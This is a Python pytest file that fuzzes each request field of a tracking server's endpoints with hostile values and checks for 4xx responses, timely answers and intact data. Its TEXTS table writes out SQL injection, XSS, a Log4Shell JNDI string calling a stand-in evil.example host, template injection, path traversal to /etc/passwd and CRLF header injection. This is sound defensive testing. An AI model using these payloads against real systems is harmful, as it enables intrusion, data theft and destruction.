"""Every field of every endpoint, found by the table, given values that nobody means: 4xx or a good answer, and soon."""

import json
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
from hostile import JSON, Answer, Target

from trackline.server import events
from trackline.server.endpoint import Endpoint
from trackline.server.endpoints import ENDPOINTS

LATEST_S = 15.0
"""On a busy machine; what is slow by its nature takes minutes."""
RAW = {
    "beyond 64 bits": str(2**63),
    "below 64 bits": str(-(2**63) - 1),
    "thirty digits": "1" * 30,
    "ten thousand digits": "9" * 10_000,
    "beyond doubles": "1e400",
    "huge exponent": "-1e999999999",
    "bare NaN": "NaN",
    "bare infinity": "-Infinity",
    "negative": "-1",
    "fraction": "1.5",
    "true": "true",
    "null": "null",
    "object": '{"a": {"__proto__": {"b": 1}}}',
    "half a surrogate pair": '"\\ud800"',
    "nested lists": "[" * 1000 + "]" * 1000,
    "nested objects": '{"a":' * 60 + "1" + "}" * 60,
    "many numbers": "[" + "1," * 20_000 + "1]",
    "many objects": "[" + "{}," * 20_000 + "{}]",
}
"""What JSON says."""
TEXTS = {
    "empty": "",
    "blank": " ",
    "nul": "a\0b",
    "line ends": "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "sql": "'; DROP TABLE run; --",
    "sql union": "' UNION ALL VALUES (1) --",
    "sql comment": "a'/**/OR/**/1=1#",
    "wildcards": "%_" * 1000,
    "markup": "<script>alert(1)</script>",
    "template": "${jndi:ldap://evil.example/a}{{7*7}}",
    "other digits": "٣",
    "turned around": "\u202e\u2066abc",
    "parent": "../../../../etc/passwd",
    "format": "%s%n%x{0.__class__}",
    "long": "x" * 100_000,
    "long digits": "9" * 10_000,
    "long blanks": " " * 100_000,
    "wide": "\U0001f4a3" * 20_000,
    "combining": "a" + "\u0301" * 20_000,
    "token": "WyJhIiwgMCwgW11d",
    "column": "run.id) FROM run --",
}
LISTS = {
    "many texts": [f"metrics.m{place}" for place in range(20_000)],
    "many equal texts": ["0"] * 20_000,
    "long text": ["x" * 100_000],
    "empty text": [""],
    "hostile texts": list(TEXTS.values()),
}


def _fields() -> Iterator[tuple[Endpoint, str]]:
    for row in ENDPOINTS:
        if row.function is events.follow:
            continue  # its good answers do not end; tests/wire/test_events.py asks it
        for field in msgspec.structs.fields(row.request):
            yield row, field.name


def _values(row: Endpoint) -> Iterator[tuple[str, str]]:
    """Yield names and JSON of values; a query has texts only."""
    for name, text in TEXTS.items():
        yield name, json.dumps(text)
    if row.takes_message:
        yield from RAW.items()
        for name, value in RAW.items():
            if "many" not in name:
                yield f"{name} in an object", f'{{"key": {value}, "value": {value}}}'
                yield f"{name} in a list", f'[{{"key": {value}, "value": {value}}}]'
        yield from ((name, json.dumps(texts)) for name, texts in LISTS.items())


@pytest.fixture(scope="module")
def known(target: Target) -> dict[str, Any]:
    """Return what fields that are not under attack say: things that are there."""
    run_id = target.new_run()
    model = target.post("logged-models", {"experiment_id": "0"}).json()["model"]["info"]
    points = [{"key": "m", "value": 1.0, "timestamp": 1, "step": step} for step in range(10)]
    target.post("runs/log-batch", {"run_id": run_id, "metrics": points, "tags": [{"key": "t", "value": "x" * 8000}]})
    return {
        "run_id": run_id,
        "run_uuid": run_id,
        "model_id": model["model_id"],
        "experiment_id": "0",
        "experiment_ids": ["0"],
        "run_ids": [run_id],
        "metric_key": "m",
        "metric_keys": ["m"],
        "key": "k",
        "value": "1",
        "name": "n",
        "new_name": "n",
        "timestamp": 1,
        "max_results": 10,
        "path": "p",
        "status": "LOGGED_MODEL_READY",
        "models": [],
        "columns": ["metrics.m"],
    }


def _ask(target: Target, row: Endpoint, known: dict[str, Any], field: str, value: str) -> Answer:
    fields = {each.name: each for each in msgspec.structs.fields(row.request)}
    address = row.path.replace("{path}", "p")
    text = json.loads(value) if value.startswith('"') else value
    for name in fields:
        address = address.replace(f"{{{name}}}", _quote(text if name == field else known.get(name)))
    others = {
        name: known[name]
        for name, each in fields.items()
        if name in known and name != field and f"{{{name}}}" not in row.path and each.required
    }
    if not row.takes_message:
        query = "&".join(f"{name}={_quote(told)}" for name, told in [*others.items(), (field, text)])
        return target.ask(row.method, f"{address}?{query}")
    members = [f'"{name}": {json.dumps(told)}' for name, told in others.items()] + [f'"{field}": {value}']
    return target.ask(row.method, address, f"{{{', '.join(members)}}}".encode(), JSON)


def _quote(value: str | int | list[str] | None) -> str:
    one = next(iter(value), "") if isinstance(value, list) else value  # one of them is enough
    return quote(str(one), safe="", errors="surrogatepass")


@pytest.mark.parametrize(
    ("row", "field"), [pytest.param(row, field, id=f"{row.method} {row.path} {field}") for row, field in _fields()]
)
def test_no_value_does_harm(target: Target, known: dict[str, Any], row: Endpoint, field: str) -> None:
    """Each value is taken or refused with 4xx within seconds, no inside of the server is told, and it goes on."""
    for name, value in _values(row):
        started = time.monotonic()
        answer = _ask(target, row, known, field, value)
        assert time.monotonic() - started < LATEST_S, name
        if answer.status != 501:  # a disk takes no uploads in parts
            assert answer.status < 500, (name, answer.body[:500])
        assert "set-cookie" not in answer.headers
        assert "html" not in answer.headers.get("content-type", "")
    assert target.ask("GET", "/health").body == b"OK"


def test_everything_is_still_there(target: Target, known: dict[str, Any]) -> None:
    """After all that, what was there at the beginning is."""
    found = target.post("experiments/search", {"max_results": 1000}).json()["experiments"]
    assert "0" in [each["experiment_id"] for each in found]
    run = target.ask("GET", f"/api/2.0/mlflow/runs/get?run_id={known['run_id']}").json()["run"]
    assert run["info"]["run_id"] == known["run_id"]
